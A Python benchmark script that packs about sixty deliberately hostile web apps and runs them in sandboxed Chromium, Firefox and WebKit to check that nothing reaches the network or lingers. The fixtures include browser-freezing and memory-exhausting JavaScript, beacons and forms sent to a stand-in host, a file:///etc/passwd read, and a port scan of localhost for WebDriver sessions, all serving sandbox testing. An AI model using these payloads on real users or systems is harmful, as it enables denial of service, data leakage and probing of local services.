#!/usr/bin/env python3
"""Looks at what apps in browsers reach and cost.

    benches/browsers.py hostile [TEKSER [APP...]]
        Opens more than fifty apps that mean harm, or these of them, in all browsers. While they run, the counters of the network that the
        browsers are in are read, and those of this machine before and after. At the end no process and no folder of a
        browser may be left. Prints a line an app, then what was counted.

    benches/browsers.py pace FOLDER [RUNS] [TEKSER]
        Opens the apps in FOLDER in each browser alone, then in all together, RUNS times (3). Prints apps a minute, memory,
        and every requirement whose outcome was not the same each time.

Ends with 1 if anything left the loopback device, was left behind, or came out differently.
"""

import json
import os
import re
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from collections import defaultdict
from pathlib import Path

ALL = "chromium,firefox,webkit"

PAGE = '<!doctype html><html lang="kk"><head><meta charset="utf-8"><title>T</title>{head}</head><body><h1>Сәлем</h1>{body}</body></html>'


def script(text):
    return {"body": f"<script>{text}</script>"}


def clicked(text):
    return {"body": f'<button onclick="{text}">A</button>'}


def html(text):
    return {"body": text}


OUT = "https://outside.example"
APPS = {
    # What does not come to an end.
    "loop": script("while (true) {}"),
    "loop-later": script("setTimeout(() => { while (true) {} }, 300)"),
    "loop-in-click": clicked("while (true) {}"),
    "loop-in-key": script("onkeydown = () => { while (true) {} }"),
    "loop-in-scroll": script("onwheel = () => { while (true) {} }"),
    "loop-in-worker": script("new Worker(URL.createObjectURL(new Blob(['while (true) {}'])))"),
    "workers": script("for (let i = 0; i < 200; i++) new Worker(URL.createObjectURL(new Blob(['while (true) {}'])))"),
    "microtasks": script("const f = () => Promise.resolve().then(f); f()"),
    "regular-expression": script("/^(a+)+$/.test('a'.repeat(40) + 'b')"),
    "reload": script("setTimeout(() => location.reload(), 50)"),
    "refresh": {"head": '<meta http-equiv="refresh" content="0">'},
    "history": script("for (let i = 0; ; i++) history.pushState(i, '', '?' + i)"),
    "iframe-in-iframe": html('<iframe src="index.html?1"></iframe><iframe src="index.html?2"></iframe>'),
    # What asks people.
    "alerts": script("setTimeout(() => { while (true) alert(1) }, 300)"),
    "confirms": script("while (confirm('?') !== 7);"),
    "prompt-in-click": clicked("prompt('e-mail')"),
    "unload": script("onbeforeunload = (e) => { e.preventDefault(); return 'x' }"),
    "print": script("print(); print()"),
    "permissions": script(
        "navigator.geolocation.getCurrentPosition(() => {}); Notification.requestPermission();"
        "navigator.mediaDevices?.getUserMedia({ audio: true, video: true }).catch(() => {})"
    ),
    "full-screen": clicked("document.documentElement.requestFullscreen(); this.requestPointerLock()"),
    "clipboard": clicked("navigator.clipboard.readText().then(alert)"),
    # What wants to get out.
    "away": script(f"location.href = '{OUT}/'"),
    "away-by-refresh": {"head": f'<meta http-equiv="refresh" content="0;url={OUT}/">'},
    "form-post": html(f'<form method="post" action="{OUT}/take"><input name="a" value="b"></form><script>document.forms[0].submit()</script>'),
    "form-get": html(f'<form action="{OUT}/take"><input name="a" value="b"><button>A</button></form>'),
    "windows": script(f"for (let i = 0; i < 50; i++) open('{OUT}/' + i)"),
    "windows-in-click": clicked(f"for (let i = 0; i < 50; i++) open('{OUT}/' + i)"),
    "fetch-many": script("for (let i = 0; i < 500; i++) fetch('https://h' + i + '.example/').catch(() => {})"),
    "beacons": script(f"onpagehide = () => navigator.sendBeacon('{OUT}/', 'x'); navigator.sendBeacon('{OUT}/', 'y')"),
    "sockets": script("for (let i = 0; i < 50; i++) new WebSocket('wss://s' + i + '.example/')"),
    "webrtc": script(
        "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:192.0.2.99:3478' }, { urls: 'stun:stun.l.google.com:19302' }] });"
        "p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))"
    ),
    "web-transport": script("new WebTransport('https://192.0.2.99:4433/').ready.catch(() => {})"),
    "dns-prefetch": {"head": "".join(f'<link rel="dns-prefetch" href="//secret{i}.example">' for i in range(100))},
    "preconnect": {"head": "".join(f'<link rel="preconnect" href="https://p{i}.example">' for i in range(20))},
    "prefetch": {"head": f'<link rel="prefetch" href="{OUT}/a"><link rel="preload" as="script" href="{OUT}/b">'},
    "speculation": {"head": f'<script type="speculationrules">{{"prefetch":[{{"source":"list","urls":["{OUT}/s"]}}]}}</script>'},
    "service-worker": {
        "body": "<script>navigator.serviceWorker.register('sw.js')</script>",
        "sw.js": f"setInterval(() => fetch('{OUT}/sw').catch(() => {{}}), 100)",
    },
    "worker-imports": {"body": "<script>new Worker('w.js')</script>", "w.js": f"importScripts('{OUT}/w.js')"},
    "ping": html(f'<a href="#" ping="{OUT}/ping">A</a>'),
    "style-imports": {"head": f'<style>@import "{OUT}/a.css"; @font-face {{ font-family: x; src: url({OUT}/f.woff2) }} h1 {{ font-family: x; background: url({OUT}/b.png) }}</style>'},
    "frames": html(f'<iframe src="{OUT}/f"></iframe><object data="{OUT}/o"></object><embed src="{OUT}/e"><video autoplay src="{OUT}/v.mp4"></video>'),
    "events": script(f"new EventSource('{OUT}/events')"),
    "numbers": script("for (let i = 1; i < 60; i++) new Image().src = 'http://10.0.0.' + i + '/x.png'"),
    "schemes": script("for (const to of ['mailto:a@b.example', 'tel:1', 'ms-word:x', 'file:///etc/passwd']) { const f = document.createElement('iframe'); f.src = to; document.body.append(f) }"),
    "files": script("fetch('file:///etc/passwd').then((r) => r.text()).then((t) => { document.title = t }).catch(() => {})"),
    # What knocks at the programs beside it on this computer: whoever drives the browser is one of them.
    "ports": script(
        "const knock = (port) => fetch('http://127.0.0.1:' + port + '/session', { method: 'POST', mode: 'no-cors', body: '{\"capabilities\":{}}' }).catch(() => {});"
        "for (let port = 9000; port < 9600; port++) knock(port); for (let port = 32768; port < 33400; port++) knock(port)"
    ),
    # What wants everything there is.
    "memory-at-once": script("const a = []; for (let i = 0; i < 20; i++) a.push(new Uint8Array(1e8).fill(1))"),
    "memory-slowly": script("const a = []; setInterval(() => { for (let i = 0; i < 20; i++) a.push(new Uint8Array(1e7).fill(1)) }, 20)"),
    "memory-of-wasm": script("const m = new WebAssembly.Memory({ initial: 1, maximum: 65536 }); try { while (true) { m.grow(1024); new Uint8Array(m.buffer).fill(1) } } catch {}"),
    "text-without-end": script("let s = 'x'; try { while (true) s += s } catch {} const a = []; while (a.length < 50) a.push(s.slice(1).toUpperCase())"),
    "elements": script("for (let i = 0; i < 2e6; i++) document.body.append(document.createElement('p'))"),
    "nested": script("let e = document.body; for (let i = 0; i < 1e5; i++) { const d = document.createElement('div'); e.append(d); e = d }"),
    "canvas": script("const c = document.createElement('canvas'); c.width = c.height = 16000; document.body.append(c); const x = c.getContext('2d'); setInterval(() => x.fillRect(0, 0, 16000, 16000), 1)"),
    "recursion": script("const f = () => f() + f(); setInterval(() => { try { f() } catch {} }, 1)"),
    "disk": script("navigator.storage?.getDirectory?.().then(async (d) => { const f = await d.getFileHandle('x', { create: true }); const w = await f.createWritable(); while (true) await w.write(new Uint8Array(1e7)) }).catch(() => {})"),
    "storage": script("try { for (let i = 0; ; i++) localStorage.setItem(i, 'x'.repeat(1e5)) } catch {}"),
    "downloads": script("const a = document.createElement('a'); a.href = 'f.bin'; a.download = 'f.bin'; document.body.append(a); for (let i = 0; i < 20; i++) a.click()"),
    "download-large": script("const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(Array(100).fill(new Uint8Array(1e7)))); a.download = 'x'; document.body.append(a); a.click()"),
    # What wants to be heard by nobody else.
    "errors": script("setInterval(() => { throw new Error('x' + Math.random()) }, 0)"),
    "console": script("setInterval(() => { for (let i = 0; i < 1000; i++) console.error('x'.repeat(1e5)) }, 0)"),
    "told": script("setInterval(() => { for (let i = 0; i < 100; i++) fetch('/__tekser__/told', { method: 'POST', body: '{\"told\":\"use\",\"name\":\"' + 'x'.repeat(6e4) + i + '\"}' }) }, 0)"),
    "long-title": script("document.title = 'x'.repeat(1e7); document.documentElement.lang = 'y'.repeat(1e7)"),
    "page-of-60-MB": {"body": "<p>x" * 15_000_000},
}


def pack(folder, apps):
    for name, parts in apps.items():
        with zipfile.ZipFile(folder / f"{name}.zip", "w", zipfile.ZIP_DEFLATED) as app:
            app.writestr("index.html", PAGE.format(head=parts.get("head", ""), body=parts.get("body", "")))
            app.writestr("f.bin", b"x" * 1000)
            for file in parts.keys() - {"head", "body"}:
                app.writestr(file, parts[file])


def devices(text):
    """Packets received and sent, by device."""
    lines = (line.split(":") for line in text.splitlines()[2:])
    return {name.strip(): (int((numbers := rest.split())[1]), int(numbers[9])) for name, rest in lines}


OF_BROWSERS = re.compile(r"chrom|firefox|webkit|minibrowser|xvfb|geckodriver", re.IGNORECASE)


def of_browsers():
    """The numbers of all processes of browsers and of those that they run under."""
    found = set()
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                name, line = (entry / "comm").read_text(), (entry / "cmdline").read_bytes().split(b"\0")
            except OSError:
                continue
            if OF_BROWSERS.search(name) or b"browse" in line[1:2]:
                found.add(int(entry.name))
    return found


def folders():
    return {path.name for path in Path(tempfile.gettempdir()).iterdir()}


class Watch(threading.Thread):
    """Reads the counters of the networks that browsers are in, and the memory that they have, as long as a run goes on."""

    def __init__(self):
        super().__init__(daemon=True)
        self.ended, self.networks, self.memory = threading.Event(), defaultdict(dict), 0
        self.ours = os.stat("/proc/self/ns/net").st_ino

    def run(self):
        page = os.sysconf("SC_PAGESIZE")
        while not self.ended.wait(0.2):
            total = 0
            for pid in of_browsers():
                try:
                    network = os.stat(f"/proc/{pid}/ns/net").st_ino
                    counted = devices(Path(f"/proc/{pid}/net/dev").read_text())
                    _, resident, shared = Path(f"/proc/{pid}/statm").read_text().split()[:3]
                except (OSError, ValueError):
                    continue
                total += (int(resident) - int(shared)) * page
                if network != self.ours:
                    self.networks[network].update(counted)
            self.memory = max(self.memory, total)


def check(tekser, folder, browsers):
    """The report of a run, the seconds it took, and what was watched."""
    with tempfile.TemporaryDirectory() as place:
        out = Path(place) / "r.json"
        watch = Watch()
        watch.start()
        began = time.monotonic()
        ran = subprocess.run(
            [tekser, "check", folder, "--browser", browsers, "--output", out],
            check=False,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
        )
        took = time.monotonic() - began
        watch.ended.set()
        watch.join()
        assert ran.returncode in (0, 1), ran.stderr.decode()
        return json.loads(out.read_bytes()), took, watch


def seen(submission):
    """What became of each visit of an app, by browser: ! if it asked for something outside, x if it had errors."""
    by = defaultdict(list)
    for visit in submission["facts"].get("visits", []):
        what = visit.get("broke_off") or ("blank" if visit.get("drawn") is False else "seen")
        by[visit["browser"]].append(f"{what}{'!' if visit.get('outside') else ''}{'x' if visit.get('errors') else ''}")
    return by


def outcomes(submission):
    return {requirement["id"]: requirement["outcome"] for requirement in submission["requirements"]}


def hostile(tekser="target/release/tekser", *only):
    apps = {name: APPS[name] for name in only} or APPS
    before = of_browsers(), folders(), devices(Path("/proc/net/dev").read_text())
    with tempfile.TemporaryDirectory() as place:
        folder = Path(place) / "apps"
        folder.mkdir()
        pack(folder, apps)
        report, took, watch = check(tekser, folder, ALL)
    names = ALL.split(",")
    wanted = ["app-index-launches", "app-no-js-errors", "app-browser-matrix", "app-external-web-minimal", "app-no-statistics-collection"]
    print(f"{'app':20} " + " ".join(f"{name:24}" for name in names) + " ".join(wanted))
    for one in report["submissions"]:
        name, by, came = Path(one["path"]).stem, seen(one), outcomes(one)
        print(f"{name:20} " + " ".join(f"{' '.join(by[browser]):24}" for browser in names) + " ".join(came[w] for w in wanted))
        assert sum(map(len, by.values())) == 2 * len(names), name
    time.sleep(4)
    left, new = of_browsers() - before[0], folders() - before[1]
    now = devices(Path("/proc/net/dev").read_text())
    print(f"\n{len(apps)} apps in {ALL}: {took:.0f} s, at most {watch.memory / 2**30:.2f} GiB")
    outside = 0
    for number, counted in watch.networks.items():
        # The pair leads from this network to itself: what is sent into it arrives nowhere.
        outside += sum(sum(packets) for name, packets in counted.items() if name not in ("lo", "v0", "v1"))
        print(f"network {number} of browsers: " + ", ".join(f"{name} {got} received {sent} sent" for name, (got, sent) in sorted(counted.items())))
    for name, (got, sent) in sorted(now.items()):
        if name != "lo":
            was = before[2].get(name, (0, 0))
            print(f"this machine's {name}: {got - was[0]} received, {sent - was[1]} sent meanwhile, by all programs")
    print(f"processes left: {sorted(left)}; folders left: {sorted(new)}")
    if not watch.networks:
        print("browsers had no network of their own here: only the proxy kept them")
    return 1 if left or new or outside else 0


def pace(folder, runs="3", tekser="target/release/tekser"):
    apps, differ = sum(1 for path in Path(folder).iterdir() if path.suffix == ".zip"), 0
    assert apps, folder
    for browsers in [*ALL.split(","), ALL]:
        came = []
        for _ in range(int(runs)):
            report, took, watch = check(tekser, folder, browsers)
            came.append({one["path"]: (outcomes(one), seen(one)) for one in report["submissions"]})
            print(f"{browsers:24} {apps} apps in {took:.0f} s: {60 * apps / took:.1f} a minute, {watch.memory / 2**20:.0f} MiB", flush=True)
        for path in came[0]:
            for requirement in came[0][path][0]:
                ways = [run[path][0][requirement] for run in came]
                if len(set(ways)) > 1:
                    differ += 1
                    print(f"  {path}: {requirement} is {', '.join(ways)}")
            ways = [dict(run[path][1]) for run in came]
            if any(way != ways[0] for way in ways):
                print(f"  {path}: visits were {' / '.join(map(str, ways))}")
    return 1 if differ else 0


if __name__ == "__main__":
    if sys.argv[1:2] not in (["hostile"], ["pace"]):
        sys.exit(__doc__)
    sys.exit({"hostile": hostile, "pace": pace}[sys.argv[1]](*sys.argv[2:]))
